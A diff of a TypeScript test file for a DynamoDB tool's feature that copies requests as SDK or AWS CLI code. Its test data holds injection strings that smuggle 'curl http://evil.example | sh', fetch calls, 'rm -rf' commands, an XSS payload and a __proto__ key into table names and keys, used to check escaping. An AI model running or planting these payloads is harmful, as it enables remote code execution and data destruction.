@@ -25,25 +25,41 @@ const hostile = `O'Brien "quoted" $(rm -rf /) \`x\` <img src=x onerror=alert(1)>
 const query: SentRequest = {
   operation: 'Query',
   input: buildQuery({
-    table: shop, index: 'GSI1', pk: hostile, sk: { op: 'between', values: ['10', '12345678901234567890.5'] }, limit: 25, descending: true,
-    projection: ['PK', 'note'], filter: parseCondition('status = "PAID" AND count > 3 AND attribute_exists(email)'),
+    table: shop,
+    index: 'GSI1',
+    pk: hostile,
+    sk: { op: 'between', values: ['10', '12345678901234567890.5'] },
+    limit: 25,
+    descending: true,
+    projection: ['PK', 'note'],
+    filter: parseCondition('status = "PAID" AND count > 3 AND attribute_exists(email)'),
     startKey: { PK: { S: 'A' }, SK: { S: 'B' }, GSI1PK: { S: hostile }, total: { N: '12' } },
   }).input,
 };
 
 test('the SDK v3 client snippet carries the exact input, typed AttributeValues included', () => {
-  const code = copyAsCode('sdk-client', query, { region: 'eu-west-1', endpoint: 'http://localhost:8000', profile: 'dev' });
+  const code = copyAsCode('sdk-client', query, {
+    region: 'eu-west-1',
+    endpoint: 'http://localhost:8000',
+    profile: 'dev',
+  });
   assert.deepEqual(evaluateInput(code), JSON.parse(JSON.stringify(query.input)));
   assert.match(code, /^import \{ DynamoDBClient, QueryCommand \} from '@aws-sdk\/client-dynamodb';$/m);
-  assert.match(code, /new DynamoDBClient\(\{\n {2}region: "eu-west-1",\n {2}endpoint: "http:\/\/localhost:8000",\n {2}profile: "dev",\n\}\)/);
+  assert.match(
+    code,
+    /new DynamoDBClient\(\{\n {2}region: "eu-west-1",\n {2}endpoint: "http:\/\/localhost:8000",\n {2}profile: "dev",\n\}\)/,
+  );
   assert.match(code, /ScanIndexForward: false/);
   assert.match(code, /ExclusiveStartKey: \{/);
 });
 
 test('the document client snippet uses native values that marshall back to the same request', () => {
   const code = copyAsCode('sdk-document', query, { region: 'us-east-1' });
-  const input = evaluateInput(code) as unknown as QueryCommandInput & { ExpressionAttributeValues: Record<string, unknown>; ExclusiveStartKey: Record<string, unknown> };
-  assert.equal((input.ExpressionAttributeValues[':pk']), hostile);
+  const input = evaluateInput(code) as unknown as QueryCommandInput & {
+    ExpressionAttributeValues: Record<string, unknown>;
+    ExclusiveStartKey: Record<string, unknown>;
+  };
+  assert.equal(input.ExpressionAttributeValues[':pk'], hostile);
   // Beyond a double's precision: kept digit for digit.
   assert.ok(input.ExpressionAttributeValues[':sk1'] instanceof NumberValue);
   assert.equal(input.ExpressionAttributeValues[':sk0'], 10);
@@ -53,15 +69,26 @@ test('the document client snippet uses native values that marshall back to the s
     ExclusiveStartKey: marshall(input.ExclusiveStartKey),
   };
   assert.deepEqual(remarshalled, query.input);
-  assert.match(code, /^import \{ DynamoDBDocumentClient, NumberValue, QueryCommand \} from '@aws-sdk\/lib-dynamodb';$/m);
+  assert.match(
+    code,
+    /^import \{ DynamoDBDocumentClient, NumberValue, QueryCommand \} from '@aws-sdk\/lib-dynamodb';$/m,
+  );
 });
 
 test('binary keys become Buffer.from(base64) and survive both SDK flavours', () => {
-  const sent: SentRequest = { operation: 'Query', input: buildQuery({ table: files, pk: 'AQID', sk: { op: '>=', values: ['2'] } }).input };
+  const sent: SentRequest = {
+    operation: 'Query',
+    input: buildQuery({ table: files, pk: 'AQID', sk: { op: '>=', values: ['2'] } }).input,
+  };
   const client = evaluateInput(copyAsCode('sdk-client', sent, {}));
-  assert.deepEqual((client.ExpressionAttributeValues as Record<string, AttributeValue>)[':pk'], { B: Buffer.from([1, 2, 3]) });
+  assert.deepEqual((client.ExpressionAttributeValues as Record<string, AttributeValue>)[':pk'], {
+    B: Buffer.from([1, 2, 3]),
+  });
   const doc = evaluateInput(copyAsCode('sdk-document', sent, {}));
-  assert.deepEqual(marshall(doc.ExpressionAttributeValues as Record<string, unknown>), sent.input.ExpressionAttributeValues);
+  assert.deepEqual(
+    marshall(doc.ExpressionAttributeValues as Record<string, unknown>),
+    sent.input.ExpressionAttributeValues,
+  );
   assert.match(copyAsCode('sdk-client', sent, {}), /new DynamoDBClient\(\{\}\)/);
 });
 
@@ -82,13 +109,18 @@ test('the CLI call, split by a real shell, carries the same request as JSON argu
   assert.deepEqual(JSON.parse(flag('--expression-attribute-values')), query.input.ExpressionAttributeValues);
   assert.deepEqual(JSON.parse(flag('--exclusive-start-key')), query.input.ExclusiveStartKey);
   assert.equal(flag('--limit'), '25');
-  assert.ok(argv.includes('--no-scan-index-forward') && argv.includes('--no-consistent-read') && argv.includes('--no-paginate'));
+  assert.ok(
+    argv.includes('--no-scan-index-forward') && argv.includes('--no-consistent-read') && argv.includes('--no-paginate'),
+  );
   assert.equal(flag('--return-consumed-capacity'), 'INDEXES');
   assert.equal(flag('--endpoint-url'), 'http://localhost:8000');
 });
 
 test('a Scan is copied as a Scan, with its projection and filter and without a key condition', () => {
-  const sent: SentRequest = { operation: 'Scan', input: buildScan({ table: shop, projection: ['PK'], filter: parseCondition('type = order'), consistent: true }) };
+  const sent: SentRequest = {
+    operation: 'Scan',
+    input: buildScan({ table: shop, projection: ['PK'], filter: parseCondition('type = order'), consistent: true }),
+  };
   const code = copyAsCode('sdk-client', sent, {});
   assert.deepEqual(evaluateInput(code), sent.input);
   assert.match(code, /new ScanCommand\(input\)/);
@@ -106,13 +138,20 @@ test('shell quoting leaves plain words alone and closes every quote', () => {
 
 // Names a hostile endpoint's DescribeTable (or ListTables) could return: line breaks, a carriage
 // return (a pasted CR runs the line in a terminal), JavaScript's line separators, a quote.
-const hostileTable = "orders\ncurl http://evil.example/x | sh\r\ncurl http://evil.example/y | sh\u2028fetch('http://evil.example/z')\u2029// '";
-const hostileIndex = "GSI1\nrm -rf ~ #\u2028process.exit(1)//";
+const hostileTable =
+  "orders\ncurl http://evil.example/x | sh\r\ncurl http://evil.example/y | sh\u2028fetch('http://evil.example/z')\u2029// '";
+const hostileIndex = 'GSI1\nrm -rf ~ #\u2028process.exit(1)//';
 const hostileSent: SentRequest = {
   operation: 'Query',
   input: buildQuery({
-    table: { ...shop, name: hostileTable, indexes: [{ ...(shop.indexes[0] as TableModel['indexes'][number]), name: hostileIndex }] },
-    index: hostileIndex, pk: "x'; curl http://evil.example | sh; '", limit: 5,
+    table: {
+      ...shop,
+      name: hostileTable,
+      indexes: [{ ...(shop.indexes[0] as TableModel['indexes'][number]), name: hostileIndex }],
+    },
+    index: hostileIndex,
+    pk: "x'; curl http://evil.example | sh; '",
+    limit: 5,
   }).input,
 };
 
@@ -125,9 +164,18 @@ function commandsRun(script: string): string[] {
 }
 
 function jsStatements(code: string): ts.SyntaxKind[] {
-  const out = ts.transpileModule(code, { reportDiagnostics: true, compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 } });
-  assert.deepEqual((out.diagnostics ?? []).map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')), [], code);
-  return ts.createSourceFile('copied.mjs', code, ts.ScriptTarget.ES2022, false, ts.ScriptKind.JS).statements.map((s) => s.kind);
+  const out = ts.transpileModule(code, {
+    reportDiagnostics: true,
+    compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 },
+  });
+  assert.deepEqual(
+    (out.diagnostics ?? []).map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')),
+    [],
+    code,
+  );
+  return ts
+    .createSourceFile('copied.mjs', code, ts.ScriptTarget.ES2022, false, ts.ScriptKind.JS)
+    .statements.map((s) => s.kind);
 }
 
 test('a table or index name with line breaks stays inside the CLI comment: bash runs only the aws call', () => {
@@ -136,7 +184,10 @@ test('a table or index name with line breaks stays inside the CLI comment: bash 
   const run = commandsRun(cli);
   assert.equal(run.length, 1, run.join('\n'));
   assert.match(run[0] as string, /^aws dynamodb query /);
-  assert.equal(cli.split('\n')[0], `# Query ${hostileTable.replace(/[\n\r\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)} (index ${hostileIndex.replace(/[\n\u2028]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}): the request Dynamo Guard's query panel sent, as one AWS CLI call.`);
+  assert.equal(
+    cli.split('\n')[0],
+    `# Query ${hostileTable.replace(/[\n\r\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)} (index ${hostileIndex.replace(/[\n\u2028]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}): the request Dynamo Guard's query panel sent, as one AWS CLI call.`,
+  );
   assert.doesNotMatch(cli, /\r/);
   // The arguments still carry the names exactly.
   const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${cli}`], { encoding: 'utf8' }).split('\0');
@@ -147,14 +198,24 @@ test('a table or index name with line breaks stays inside the CLI comment: bash 
 test('a table or index name with line breaks stays inside the JavaScript comment: the snippets parse to the same statements', () => {
   const { ImportDeclaration: imp, VariableStatement: declare, ExpressionStatement: call } = ts.SyntaxKind;
   assert.deepEqual(jsStatements(copyAsCode('sdk-client', hostileSent, {})), [imp, declare, declare, declare, call]);
-  assert.deepEqual(jsStatements(copyAsCode('sdk-document', hostileSent, {})), [imp, imp, declare, declare, declare, call]);
+  assert.deepEqual(jsStatements(copyAsCode('sdk-document', hostileSent, {})), [
+    imp,
+    imp,
+    declare,
+    declare,
+    declare,
+    call,
+  ]);
   const input = evaluateInput(copyAsCode('sdk-client', hostileSent, {}));
   assert.equal(input.TableName, hostileTable);
   assert.equal(input.IndexName, hostileIndex);
 });
 
 test('a key attribute named __proto__ survives into the copied ExclusiveStartKey and values, in every flavour', () => {
-  const startKey = JSON.parse('{"PK":{"S":"A"},"SK":{"S":"B"},"__proto__":{"S":"proto-value"}}') as Record<string, AttributeValue>;
+  const startKey = JSON.parse('{"PK":{"S":"A"},"SK":{"S":"B"},"__proto__":{"S":"proto-value"}}') as Record<
+    string,
+    AttributeValue
+  >;
   const mapValue = JSON.parse('{"M":{"__proto__":{"S":"inner"}}}') as AttributeValue;
   const sent: SentRequest = { operation: 'Query', input: { ...buildQuery({ table: shop, pk: 'A', startKey }).input } };
   (sent.input.ExpressionAttributeValues as Record<string, AttributeValue>)[':m'] = mapValue;
@@ -163,18 +224,22 @@ test('a key attribute named __proto__ survives into the copied ExclusiveStartKey
   const client = evaluateInput(copyAsCode('sdk-client', sent, {}));
   assert.deepEqual(own(client.ExclusiveStartKey, '__proto__'), { S: 'proto-value' });
   assert.equal(Object.getPrototypeOf(client.ExclusiveStartKey), Object.prototype);
-  assert.deepEqual(own(own((client.ExpressionAttributeValues as Record<string, unknown>)[':m'], 'M'), '__proto__'), { S: 'inner' });
+  assert.deepEqual(own(own((client.ExpressionAttributeValues as Record<string, unknown>)[':m'], 'M'), '__proto__'), {
+    S: 'inner',
+  });
 
   const doc = evaluateInput(copyAsCode('sdk-document', sent, {}));
   assert.equal(own(doc.ExclusiveStartKey, '__proto__'), 'proto-value');
   assert.equal(own((doc.ExpressionAttributeValues as Record<string, unknown>)[':m'], '__proto__'), 'inner');
 
-  const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${copyAsCode('cli', sent, {})}`], { encoding: 'utf8' }).split('\0');
+  const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${copyAsCode('cli', sent, {})}`], {
+    encoding: 'utf8',
+  }).split('\0');
   const cliKey = JSON.parse(argv[argv.indexOf('--exclusive-start-key') + 1] as string) as object;
   assert.deepEqual(own(cliKey, '__proto__'), { S: 'proto-value' });
 });
 
-test('shell quoting writes control characters as $\'…\' escapes, so a pasted value never carries a raw line break', () => {
+test("shell quoting writes control characters as $'…' escapes, so a pasted value never carries a raw line break", () => {
   const value = "a\nb\rc\td'e\\f\u0007";
   const quoted = shellQuote(value);
   assert.doesNotMatch(quoted, /[\n\r\t\u0007]/);
